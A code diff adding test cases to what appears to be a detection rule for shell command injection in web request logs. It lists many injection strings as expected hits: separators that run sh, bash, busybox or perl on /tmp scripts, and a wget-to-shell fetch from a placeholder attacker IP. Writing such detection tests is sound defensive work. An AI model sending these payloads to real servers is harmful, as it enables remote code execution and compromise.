@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -46,11 +47,36 @@ export default defineRule({
     'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh) HTTP/1.1',
     'GET /cgi-bin/a.cgi?x=1;cd+/tmp;./arm7+exploit HTTP/1.1',
     'GET /ping?h=;sh${IFS}get.sh HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=&&sh+/tmp/x.sh HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=&+sh+/tmp/x.sh HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=;perl+a.pl HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=;python+a.pl HTTP/1.1',
+    'GET /cgi-bin/a.cgi?x=;perl+a.py HTTP/1.1',
+    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh HTTP/1.1',
+    'GET /;sh+/tmp/x.sh HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/cgi-bin/a.cgi?x=;sh+/tmp/x.sh',
+    },
+    { request: 'GET / HTTP/1.1', agent: ';sh+/tmp/x.sh' },
+    { request: 'GET / HTTP/1.1', user: ';sh+/tmp/x.sh' },
+    ...each(
+      'GET /cgi-bin/a.cgi?x={}+a.pl HTTP/1.1',
+      `;bash ;/bin/sh ;/bin/bash ;busybox+sh ;+bash ;+busybox+sh &&bash &&busybox+sh |+busybox+sh
+    |busybox+sh &+bash &+busybox+sh`,
+    ),
+    ...each(
+      'GET /cgi-bin/a.cgi?x={}/tmp/x.sh HTTP/1.1',
+      `;ash+ ;dash+ ;/tmp/ ;+./ &&./ |+./ |./ &+./ ;+sh+ %3B%20sh%2B &&sh%20 %26%26sh%2B |+ash+ |ash+
+    %26%20sh%2B`,
+    ),
+    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|+bash) HTTP/1.1',
   ],
   misses: [
     'GET /find?q=fish;shop=1 HTTP/1.1',
     'GET /a/b;sh=1 HTTP/1.1',
     'GET /list?cols=name|shape|size HTTP/1.1',
     { request: 'GET / HTTP/1.1', agent: 'Mozilla/5.0 (compatible; ShopBot/1.0; Bash)' },
+    { message: 'upstream timed out, request: "GET /cgi-bin/a.cgi?x=;sh+/tmp/x.sh HTTP/1.1"' },
   ],
 })
